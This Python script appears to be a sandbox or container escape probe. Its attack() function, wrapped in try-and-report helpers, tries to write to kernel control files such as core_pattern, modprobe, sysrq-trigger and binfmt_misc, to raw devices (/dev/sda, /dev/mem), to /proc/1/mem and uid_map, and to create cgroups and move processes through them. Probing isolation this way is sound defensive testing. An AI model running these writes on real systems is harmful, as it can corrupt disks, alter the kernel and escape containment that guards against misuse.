from kit import *


def attack():
    for path in ["/proc/sys/kernel/core_pattern", "/proc/sys/kernel/hostname", "/proc/sys/kernel/modprobe", "/proc/sysrq-trigger",
                 "/proc/sys/net/ipv4/ip_forward", "/proc/sys/kernel/ns_last_pid", "/proc/sys/vm/drop_caches",
                 "/proc/sys/fs/binfmt_misc/register", "/sys/kernel/uevent_helper", "/dev/mem", "/dev/kmsg", "/dev/sda", "/dev/vda",
                 "/proc/1/oom_score_adj", "/proc/1/mem", "/proc/1/uid_map", "/proc/self/uid_map"]:
        text = b"0 0 1" if path.endswith("map") else b"deny" if path.endswith("groups") else b"1"
        tries("write " + path, lambda: os.write(os.open(path, os.O_WRONLY), text))
    for folder in ["/sys/fs/cgroup", "/sys/fs/cgroup/memory", "/sys/fs/cgroup/pids", "/dev/cgroup"]:
        tries("control group in " + folder, lambda: os.mkdir(folder + "/loot") or "made")
        tries("leave through " + folder, lambda: os.write(os.open(folder + "/cgroup.procs", os.O_WRONLY), b"0"))
    attempted()
